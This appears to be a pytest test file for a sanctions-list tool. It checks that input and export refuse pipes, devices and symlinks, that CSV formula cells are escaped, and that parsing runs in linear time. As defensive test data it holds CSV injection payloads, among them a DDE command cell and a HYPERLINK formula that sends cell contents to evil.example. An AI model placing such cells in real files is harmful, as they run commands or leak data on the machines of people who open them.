"""Files a list is read from or exported to (issue 22, findings 6, 9, 12 and 18): only
regular files are read or replaced, CSV cells never start a spreadsheet formula, and
an entity with many values is read in linear time."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import time
from pathlib import Path

import pytest

from sanctio.errors import InputError
from sanctio.lists import read_list, writers
from sanctio.lists.csvfile import escape_formula, unescape_formula
from sanctio.model import Entity


@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    path = tmp_path / "list.csv"
    os.mkfifo(path)
    return path


def target(entity_id: str, name: str) -> Entity:
    entity = Entity.make("Person", entity_id, caption=name, target=True)
    entity.add("name", name)
    return entity


# -- input: a FIFO or a device is refused before it is read ------------------------------


@pytest.mark.parametrize("fmt", [None, "eu-journal-csv", "ftm-json", "un-xml", "uk-csv"])
def test_a_fifo_as_input_is_refused_at_once(fifo: Path, fmt: str | None) -> None:
    started = time.monotonic()
    with pytest.raises(
        InputError, match=r"list\.csv: is a named pipe \(FIFO\); expected a regular"
    ):
        read_list(fifo, fmt)
    assert time.monotonic() - started < 5  # a reader that opened it would wait forever


def test_a_device_as_input_is_refused() -> None:
    with pytest.raises(InputError, match="/dev/zero: is a character device; expected a regular"):
        read_list(Path("/dev/zero"), "ftm-json")
    with pytest.raises(InputError, match="is a character device"):
        read_list(Path("/dev/null"))


def test_a_fifo_inside_an_ofac_folder_is_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "sdn.csv")
    with pytest.raises(InputError, match=r"sdn\.csv: is a named pipe \(FIFO\)"):
        read_list(tmp_path, "ofac-csv")


# -- output: only a regular file is replaced ---------------------------------------------


def test_export_never_replaces_a_fifo_device_folder_or_link(tmp_path: Path, fifo: Path) -> None:
    entities = [target("t-1", "Some ONE")]
    kept = tmp_path / "kept.txt"
    kept.write_text("the link's target\n")
    link = tmp_path / "link.json"
    link.symlink_to(kept)
    folder = tmp_path / "folder"
    folder.mkdir()
    for path, kind in (
        (fifo, "a named pipe (FIFO)"),
        (link, "a symbolic link"),
        (folder, "a folder"),
        (Path("/dev/null"), "a character device"),
    ):
        with pytest.raises(
            InputError,
            match=f"is {re.escape(kind)}; expected a regular file",
        ):
            writers.export_file("ftm-json", entities, path)
        assert path.exists() or path.is_symlink()
    assert link.is_symlink()
    assert kept.read_text() == "the link's target\n"
    assert fifo.is_fifo()
    assert folder.is_dir()
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "folder",
        "kept.txt",
        "link.json",
        "list.csv",
    ]


def test_export_replaces_a_regular_file_atomically_keeping_its_mode(tmp_path: Path) -> None:
    out = tmp_path / "list.json"
    out.write_text("old\n")
    out.chmod(0o640)
    writers.export_file("ftm-json", [target("t-1", "Some ONE")], out)
    assert json.loads(out.read_text())["id"] == "t-1"
    assert out.stat().st_mode & 0o777 == 0o640
    assert [p.name for p in tmp_path.iterdir()] == ["list.json"]  # no temporary file left


# -- CSV cells that a spreadsheet would run ----------------------------------------------

HOSTILE = [
    "=HYPERLINK(CONCAT(A1),1)",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "'=already quoted",
]


def test_targets_simple_csv_escapes_formula_cells(tmp_path: Path) -> None:
    entities = []
    for number, name in enumerate(HOSTILE, 1):
        entity = target(f"t-{number}", f"Name {number}")
        entity.add("alias", name)
        entities.append(entity)
    phone = target("t-phone", "=cmd|' /C calc'!A0")
    phone.add("phone", "+375 17 222 22 22")
    entities.append(phone)
    buffer = io.BytesIO()
    writers.export("targets-simple-csv", entities, buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue().decode("utf-8"))))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # a value the cell must quote (a comma, a quote) starts with '"': text, not a formula
    quoted = target("t-quoted", "Name Q")
    quoted.add("alias", '=HYPERLINK("http://evil.example/?x="&A1,"click")')
    buffer = io.BytesIO()
    writers.export("targets-simple-csv", [*entities, quoted], buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue().decode("utf-8"))))
    assert {row["id"]: row for row in rows}["t-quoted"]["aliases"].startswith('"=HYPERLINK')
    aliases = {row["id"]: row["aliases"] for row in rows}
    assert aliases["t-1"] == "'" + HOSTILE[0]
    assert aliases["t-2"] == "'+1+1"
    assert aliases["t-6"] == "''=already quoted"
    by_id = {row["id"]: row for row in rows}
    assert by_id["t-phone"]["name"] == "'=cmd|' /C calc'!A0"
    assert by_id["t-phone"]["phones"].startswith("'+375")
    # and Sanctio reads its own export back to the same names
    path = tmp_path / "targets.simple.csv"
    path.write_bytes(buffer.getvalue())
    back = {e.id: e for e in read_list(path).entities if e.target}
    for number, name in enumerate(HOSTILE, 1):
        assert name.strip() in [a.strip() for a in back[f"t-{number}"].get("alias")]
    assert back["t-phone"].caption == "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@a", "\t1", "\r1", "'=1", "''", "'a", "", "a"])
def test_escaping_round_trips(cell: str) -> None:
    assert unescape_formula(escape_formula(cell)) == cell


# -- many values in one entity -----------------------------------------------------------


def test_an_entity_with_100000_aliases_reads_in_linear_time(tmp_path: Path) -> None:
    aliases = [f"Alias Number {n}" for n in range(100_000)]
    data = {
        "id": "many-1",
        "schema": "Person",
        "target": True,
        "properties": {"name": ["Many ALIASES"], "alias": [*aliases, aliases[0]]},
    }
    path = tmp_path / "many.ftm.json"
    path.write_text(json.dumps(data) + "\n", "utf-8")
    started = time.monotonic()
    (entity,) = read_list(path).entities
    elapsed = time.monotonic() - started
    assert entity.get("alias") == aliases  # order kept, the repeated one once
    assert elapsed < 10, f"{elapsed:.1f} s"  # quadratic took minutes


def test_adding_after_direct_edits_still_refuses_repeats() -> None:
    entity = target("t-1", "Some ONE")
    entity.add("alias", ["A", "B"])
    entity.properties["alias"] = ["C"]  # code that replaces a property's list
    entity.add("alias", ["C", "A"])
    assert entity.get("alias") == ["C", "A"]
    entity.properties["alias"].append("D")
    entity.add("alias", "D")
    assert entity.get("alias") == ["C", "A", "D"]
